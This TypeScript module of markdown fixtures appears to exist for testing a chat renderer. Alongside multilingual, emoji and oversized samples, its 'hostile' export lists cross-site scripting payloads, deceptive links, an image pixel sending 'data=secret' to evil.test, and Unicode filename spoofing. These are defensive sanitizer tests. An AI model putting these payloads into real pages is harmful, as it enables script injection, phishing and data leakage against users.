export const rich = `## What a relay does

A relay keeps the **API key** on a server. The page talks to the relay, and the relay talks to *Together AI*.

1. The page sends the messages
2. The relay checks them:
   - the model is on a list
   - the body is not too large
3. It adds the key and streams the answer back

\`\`\`ts
import { createTogetherRelay } from 'together-react/relay'

export const POST = createTogetherRelay({ allowedModels: ['meta-llama/Llama-3.3-70B-Instruct-Turbo'], public: true })
\`\`\`

| Limit | Default | Counts per |
|:--|--:|:-:|
| \`bodyBytes\` | 8 MiB | request |
| \`maxTokens\` | 4,096 | request |
| \`perMinute\` | 60 | identity |

> Never put a key into a page: whoever opens it can read it.

See the [documentation](https://docs.together.ai/docs/quickstart), or ~~guess~~ ask.

- [x] Key on the server
- [ ] Limits set
`

export const arabic = `## الخط العربي

الخط العربي فن **كتابة** الحروف العربية، وقد تطور عبر القرون في مدن مثل بغداد والقاهرة وإسطنبول.

1. النسخ: يُستعمل في الكتب
2. الرقعة: للكتابة اليومية

> اقرأ المزيد في [الموسوعة](https://ar.wikipedia.org/wiki/خط_عربي).

\`\`\`js
console.log('مرحبا')
\`\`\`
`

export const hostile = [
  '<script>alert(1)</script> and <img src=x onerror=alert(1)>',
  '[click](javascript:alert(1)) [userinfo](https://bank.example@evil.test/) [relative](/logout)',
  '[https://bank.example/login](https://evil.test/) and [ok](https://xn--80ak6aa92e.com/)',
  '![a tracking pixel](https://evil.test/pixel.png?data=secret) ![inline](data:image/png;base64,AAAA)',
  'Reversed \u202Etxt.exe\u202C, as an entity &#x202E;txt.exe, tags \u{E0041}\u{E0042}, a flag 🏴\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}',
  '```js" onclick="alert(1)" class="fixed inset-0"\nlet a = 1\n```',
  `${'>'.repeat(200)} deep`,
].join('\n\n')

export const longCode = `\`\`\`python
${Array.from({ length: 12 }, (_, line) => `result_${line} = compute_something_with_a_long_name(argument_${line}, another_argument=${line * 7}, verbose=True, retries=${line})`).join('\n')}
\`\`\``

export const everything = `# Heading one

## Heading two

### Heading three

Setext one
===

Setext two
---

A paragraph with *emphasis*, **strong**, ***both***, ~~struck~~, \`code\`, a [link](https://example.com "Its title"), a
[reference][docs], <https://example.com>, https://example.com/bare, me@example.com, an entity &copy;, an escape \\*,\\
a hard break and a soft one.

- Bullet
- Bullet with **strong**
  - Nested
    1. Deep
    2. Deeper
- [x] Done
- [ ] To do

7. Seven

   A second paragraph in a loose list.

8. Eight

> A quote
> > in a quote
>
> - with a list

| Left | Centre | Right |
|:--|:-:|--:|
| \`code\` | **strong** | 1,234.5 |
| a\\|b | [link](https://example.com) | 7 |

\`\`\`ts
const answer: number = 42
\`\`\`

    indented code

![An image](https://images.invalid/picture.png)

***

<details>HTML is text</details>

[docs]: https://example.com/docs
`

export const chinese = `## 流式输出

模型每次生成**一个词元**，服务器立即把它发送到浏览器。这样读者不必等待*整个*回答。

1. 预填充：一次读取全部提示
2. 解码：每次生成一个词元

> 日本語でも、**強調**は正しく表示されます。한국어도 **마찬가지**입니다。
`

export const emoji = `Families 👨‍👩‍👧‍👦, flags 🇩🇪 🇯🇵 🏴󠁧󠁢󠁳󠁣󠁴󠁿, skin tones 👋🏽 👋🏿, hearts ❤️ 🩷, keycaps 1️⃣, and **bold 🚀 text**.

- 🎉 Done
- ⚠️ Careful
`

export const longLine = `One line without an end: ${'a word, '.repeat(4000)}and \`${'x'.repeat(3000)}\`.`

export const hugeTable = `| ${Array.from({ length: 8 }, (_, column) => `Column ${column + 1}`).join(' | ')} |
|${'---|'.repeat(8)}
${Array.from({ length: 500 }, (_, row) => `| ${Array.from({ length: 8 }, (__, column) => row * 8 + column).join(' | ')} |`).join('\n')}
`

export const hugeCode = `\`\`\`ts
${Array.from({ length: 5000 }, (_, line) => `export const value${line} = compute(${line}) // line ${line + 1}`).join('\n')}
\`\`\`
`
